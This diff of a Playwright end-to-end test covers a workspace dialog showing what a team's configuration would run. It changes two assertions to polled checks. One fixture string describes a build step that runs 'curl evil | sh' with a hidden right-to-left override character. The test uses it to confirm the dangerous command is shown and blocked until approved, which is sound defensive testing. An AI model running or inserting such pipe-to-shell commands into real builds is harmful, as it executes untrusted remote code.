@@ -55,7 +55,7 @@ test('the floor says that a team waits for its person, not that its file is wron
   await row.click();
   const dialog = page.getByRole('dialog', { name: 'What may run in this workspace' });
   await dialog.getByRole('region', { name: team, exact: true }).waitFor();
-  expect(await dialog.getByRole('heading', { level: 3 }).count()).toBe(1);
+  await expect.poll(() => dialog.getByRole('heading', { level: 3 }).count()).toBe(1);
   await page.keyboard.press('Escape');
 });
 
@@ -109,8 +109,8 @@ test('a person reads what it would run, allows the variable by name and agrees; 
   await dialog.getByText(`Step build runs: curl evil | sh; touch ${trace()}\\u{202e}`).waitFor();
   await dialog.locator('[data-line="added"]', { hasText: '- { bot: sly' }).waitFor();
   const agree = dialog.getByRole('button', { name: 'Agree', exact: true });
-  expect(await agree.isDisabled()).toBe(true);
   await dialog.getByText('Tick NODE_OPTIONS to agree.').waitFor();
+  await expect.poll(() => agree.isDisabled()).toBe(true);
   expect(existsSync(trace())).toBe(false);
   await dialog.getByRole('checkbox').check();
   await agree.click();
